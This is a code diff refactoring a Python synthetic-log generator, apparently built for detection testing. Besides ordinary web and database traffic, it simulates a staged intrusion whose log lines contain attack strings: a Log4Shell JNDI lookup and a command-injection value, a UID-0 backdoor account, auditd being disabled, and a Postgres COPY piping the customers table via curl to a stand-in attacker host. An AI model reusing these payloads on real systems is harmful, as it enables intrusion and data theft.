@@ -60,7 +60,8 @@ class OrdinaryDay:
 
     def _visit(self) -> Line:
         chance = self._random
-        path = chance.choice(["/", "/", "/products", f"/products/{chance.randint(1, 400)}", "/cart", "/login", "/static/site.css"])
+        product = f"/products/{chance.randint(1, 400)}"
+        path = chance.choice(["/", "/", "/products", product, "/cart", "/login", "/static/site.css"])
         status = chance.choices([200, 304, 302, 404], [88, 8, 3, 1])[0]
         agent = chance.choice(["Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (iPhone)", "Mozilla/5.0 (Windows NT 10.0)"])
         visitor = chance.choice(self._visitors)
@@ -69,15 +70,18 @@ class OrdinaryDay:
 
     def _query(self) -> Line:
         table = self._random.choice(["orders", "products", "sessions", "customers"])
-        return Line("db", "postgres", LOCAL0, INFO, f"duration: {self._random.uniform(0.2, 9):.3f} ms  statement: select from {table}")
+        duration = self._random.uniform(0.2, 9)
+        return Line("db", "postgres", LOCAL0, INFO, f"duration: {duration:.3f} ms  statement: select from {table}")
 
     def _slow_query(self) -> Line:
         duration = self._random.uniform(900, 2_500)
-        return Line("db", "postgres", LOCAL0, WARNING, f"duration: {duration:.3f} ms  statement: select from orders join customers")
+        message = f"duration: {duration:.3f} ms  statement: select from orders join customers"
+        return Line("db", "postgres", LOCAL0, WARNING, message)
 
     def _checkpoint(self) -> Line:
         buffers = self._random.randint(40, 900)
-        return Line("db", "postgres", LOCAL0, INFO, f"checkpoint complete: wrote {buffers} buffers, {buffers / 160:.1f}% of shared memory")
+        message = f"checkpoint complete: wrote {buffers} buffers, {buffers / 160:.1f}% of shared memory"
+        return Line("db", "postgres", LOCAL0, INFO, message)
 
     def _login(self) -> Line:
         name = self._random.choice(self._people)
@@ -97,8 +101,8 @@ class OrdinaryDay:
         return Line("bastion", "sudo", AUTH, NOTICE, message)
 
     def _cron(self) -> Line:
-        job = self._random.choice(["/usr/local/bin/rotate-sessions", "/usr/local/bin/send-mail-queue", "test -x /usr/sbin/anacron"])
-        return Line("web", "CRON", CRON, INFO, f"(root) CMD ({job})")
+        jobs = ["/usr/local/bin/rotate-sessions", "/usr/local/bin/send-mail-queue", "test -x /usr/sbin/anacron"]
+        return Line("web", "CRON", CRON, INFO, f"(root) CMD ({self._random.choice(jobs)})")
 
     def _backup(self) -> Line:
         megabytes, seconds = self._random.randint(180, 220), self._random.randint(30, 60)
@@ -106,12 +110,20 @@ class OrdinaryDay:
 
 
 ATTACKER = "192.0.2.66"
+SCANNED = (
+    "/.env",
+    "/wp-login.php",
+    "/phpmyadmin/",
+    "/.git/config",
+    "/cgi-bin/test.cgi?x=;id",
+    f"/?q=${{jndi:ldap://{ATTACKER}/a}}",
+)
 
 
 def intrusion(seed: int) -> Iterator[tuple[float, Line]]:
     """Yield the lines of a staged break-in, each with the seconds to wait before it: scan, guess, enter, rise, stay, take."""
     chance = random.Random(seed)
-    for path in ("/.env", "/wp-login.php", "/phpmyadmin/", "/.git/config", "/cgi-bin/test.cgi?x=;id", "/?q=${jndi:ldap://192.0.2.66/a}"):
+    for path in SCANNED:
         message = f'{ATTACKER} - - "GET {path} HTTP/1.1" 404 162 "-" "Nikto/2.5.0"'
         yield 0.2, Line("web", "nginx", LOCAL0, INFO, message)
     for name in ("root", "admin", "oracle", "test", "postgres", "git") * 5:
@@ -123,7 +135,8 @@ def intrusion(seed: int) -> Iterator[tuple[float, Line]]:
     yield 0.5, Line("bastion", "useradd", AUTH, INFO, "new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash")
     yield 0.5, Line("bastion", "systemd", DAEMON, NOTICE, "auditd.service: Deactivated successfully; stopped by uid 0")
     yield 0.5, Line("bastion", "kernel", 0, ERROR, "rootkit: loading out-of-tree module taints kernel")
-    yield 1.0, Line("db", "postgres", LOCAL0, WARNING, "COPY customers TO PROGRAM 'curl -T - http://192.0.2.66:8443/in' by superuser deploy")
+    message = f"COPY customers TO PROGRAM 'curl -T - http://{ATTACKER}:8443/in' by superuser deploy"
+    yield 1.0, Line("db", "postgres", LOCAL0, WARNING, message)
 
 
 def dated(lines: Iterator[Line], count: int, *, until_ns: int, seconds: float) -> Iterator[tuple[int, Line]]:
